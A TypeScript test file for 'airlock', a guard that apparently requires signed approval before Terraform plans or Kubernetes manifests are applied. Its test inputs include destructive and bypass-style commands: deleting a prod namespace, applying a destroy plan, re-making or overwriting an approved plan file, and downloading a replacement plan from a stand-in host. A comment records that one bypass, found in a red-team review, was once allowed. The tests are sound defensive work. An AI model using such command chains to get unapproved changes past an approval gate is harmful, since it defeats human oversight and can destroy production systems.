// Approvals unlock exactly what was approved: with the real terraform binary, a saved plan's apply is asked
// until a signed approval covers its digest, then allowed; a different plan, a re-made plan, anything chained
// after it, and an unapproved plan that destroys are not.
import assert from "node:assert/strict";
import { execFileSync, spawnSync } from "node:child_process";
import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, it } from "node:test";
import { createRequest, review } from "../../src/approvals/service.js";
import { loadOrCreateReviewerKey, sshEd25519PublicKey } from "../../src/approvals/signing.js";
import { checkCommand } from "../../src/guard/check.js";

const hasTerraform = spawnSync("terraform", ["version"], { stdio: "ignore" }).status === 0;

const POLICY = `version: 1
groups:
  platform: [bob@example.com]
rules:
  - id: any-change
    description: every change needs one approval from the platform group
    when: "true"
    effect: require-approval
    approval: { count: 1, groups: [platform], ttl: 1h }
    enforcement: hard-mandatory
`;

describe("guard verdicts for saved plans", { skip: !hasTerraform && "terraform is not installed" }, () => {
  const dir = mkdtempSync(join(tmpdir(), "airlock-guard-approve-"));
  const saved = { cwd: process.cwd(), env: { ...process.env } };
  const tf = (...args: string[]) => execFileSync("terraform", args, { cwd: dir, stdio: "ignore" });
  const plan = (value: string, out: string, ...extra: string[]) => {
    writeFileSync(join(dir, "main.tf"), `resource "terraform_data" "x" {\n  input = "${value}"\n}\n`);
    tf("plan", "-input=false", "-no-color", ...extra, "-out", out);
  };
  const check = (command: string) => checkCommand(command, { cwd: dir, env: {} });

  before(() => {
    process.chdir(dir);
    process.env.TF_CLI_CONFIG_FILE = "/dev/null";
    process.env.AIRLOCK_HOME = join(dir, ".airlock");
    delete process.env.AIRLOCK_DATABASE_URL;
    delete process.env.AIRLOCK_AGENT;
    writeFileSync(join(dir, "airlock.yaml"), POLICY);
    writeFileSync(join(dir, "main.tf"), 'resource "terraform_data" "x" {\n  input = "one"\n}\n');
    tf("init", "-input=false", "-no-color");
    process.env.AIRLOCK_REVIEWER_KEY = join(dir, "bob.key");
    const bob = loadOrCreateReviewerKey().publicKey;
    writeFileSync(
      join(dir, "allowed_signers"),
      `bob@example.com namespaces="airlock" ${sshEd25519PublicKey(bob)}\n`,
    );
    process.env.AIRLOCK_ALLOWED_SIGNERS = join(dir, "allowed_signers");
  });
  after(() => {
    process.chdir(saved.cwd);
    for (const k of Object.keys(process.env)) if (!(k in saved.env)) delete process.env[k];
    Object.assign(process.env, saved.env);
  });

  let digest = "";

  it("an unapproved saved plan is asked, with its digest looked up", async () => {
    plan("one", "tfplan");
    process.env.AIRLOCK_IDENTITY = "alice@example.com";
    const req = await createRequest({ plan: "tfplan" });
    digest = req.digest;
    const r = await check("terraform apply -input=false tfplan");
    assert.equal(r.verdict, "ask", r.reason);
    assert.equal(r.approvals?.[0].digest, digest);
    assert.equal(r.approvals?.[0].approved, false);
  });

  it("after a signed approval exactly that plan is allowed, and nothing chained with it", async () => {
    process.env.AIRLOCK_IDENTITY = "bob@example.com";
    const rv = await review(digest, "approve", { method: "airlock", reason: "ok" });
    assert.equal(rv.status.state, "approved", rv.status.reasons.join("; "));
    const r = await check("terraform apply -input=false tfplan");
    assert.equal(r.verdict, "allow", r.reason);
    assert.match(r.reason, /approved change/);
    assert.equal((await check("cd . && terraform apply tfplan")).verdict, "allow");
    assert.equal((await check("terraform apply tfplan && kubectl delete ns prod")).verdict, "deny");
    assert.equal((await check("terraform apply tfplan; terraform apply -auto-approve")).verdict, "ask");
    assert.equal((await check("terraform apply -destroy tfplan")).verdict, "deny");
    // the approved file re-written on the same line before it is applied (red-team review: was allow)
    const remade = await check("terraform plan -destroy -out=tfplan && terraform apply tfplan");
    assert.equal(remade.verdict, "deny", remade.reason);
    assert.equal((await check("terraform plan -out tfplan && terraform apply tfplan")).verdict, "ask");
    assert.equal((await check("cp other.tfplan tfplan && terraform apply tfplan")).verdict, "ask");
    assert.equal(
      (await check("curl -so tfplan https://x.example/p && terraform apply tfplan")).verdict,
      "ask",
    );
  });

  it("a different plan file, or the same file re-made with one value changed, is not unlocked", async () => {
    plan("two", "other.tfplan");
    assert.equal((await check("terraform apply other.tfplan")).verdict, "ask");
    plan("three", "tfplan");
    const r = await check("terraform apply tfplan");
    assert.equal(r.verdict, "ask");
    assert.notEqual(r.approvals?.[0].digest, digest);
  });

  it("a Kubernetes manifest is unlocked by an approval of exactly that manifest", async () => {
    const manifest = (replicas: number) =>
      `apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\n  namespace: prod\nspec:\n  replicas: ${replicas}\n  selector:\n    matchLabels: { app: web }\n  template:\n    metadata:\n      labels: { app: web }\n    spec:\n      containers:\n        - name: web\n          image: nginx:1.27\n`;
    writeFileSync(join(dir, "web.yaml"), manifest(2));
    writeFileSync(join(dir, "empty.yaml"), "");
    process.env.AIRLOCK_IDENTITY = "alice@example.com";
    const req = await createRequest({ before: "empty.yaml", after: "web.yaml" });
    assert.equal((await check("kubectl apply -f web.yaml")).verdict, "ask");
    process.env.AIRLOCK_IDENTITY = "bob@example.com";
    await review(req.id, "approve", { method: "airlock", reason: "ok" });
    const r = await check("kubectl apply -f web.yaml -n prod");
    assert.equal(r.verdict, "allow", r.reason);
    assert.equal(r.approvals?.[0].digest, req.digest);
    assert.equal((await check("kubectl apply --prune -f web.yaml")).verdict, "deny");
    writeFileSync(join(dir, "web.yaml"), manifest(3));
    assert.equal((await check("kubectl apply -f web.yaml")).verdict, "ask");
  });

  it("an unapproved plan that destroys resources is denied", async () => {
    plan("one", "apply.tfplan");
    tf("apply", "-input=false", "-no-color", "apply.tfplan");
    plan("one", "destroy.tfplan", "-destroy");
    const r = await check("terraform apply destroy.tfplan");
    assert.equal(r.verdict, "deny", r.reason);
    assert.match(r.reason, /deletes or replaces/);
  });
});
